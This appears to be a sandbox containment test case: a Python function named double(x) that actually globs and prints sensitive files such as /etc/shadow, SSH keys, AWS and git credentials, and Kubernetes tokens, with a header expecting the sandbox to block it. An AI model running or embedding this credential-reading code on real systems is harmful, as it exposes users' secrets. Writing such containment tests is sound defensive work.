# attack: reads and prints what only the user of the host should see
# entry: double(x: int) -> int
# example: 2 -> 4
# outcome: returned
# verdict: holds
# stdout-lacks: root:
import glob
import os

PLACES = ["/etc/shadow", "/etc/shadow-", "/root/.ssh/*", "/root/.*history", "/home/*/.ssh/*", "~/.ssh/*"]
PLACES += ["/root/.aws/*", "/root/.netrc", "/root/.git-credentials", "/run/secrets/*", "/var/run/secrets/**/token"]


def double(x):
    found = 0
    for place in PLACES:
        for path in glob.glob(os.path.expanduser(place), recursive=True):
            try:
                with open(path, errors="replace") as file:
                    text = file.read(4096)
            except OSError:
                continue
            found += 1
            print(path, text)
    return 2 * x if found == 0 else -found
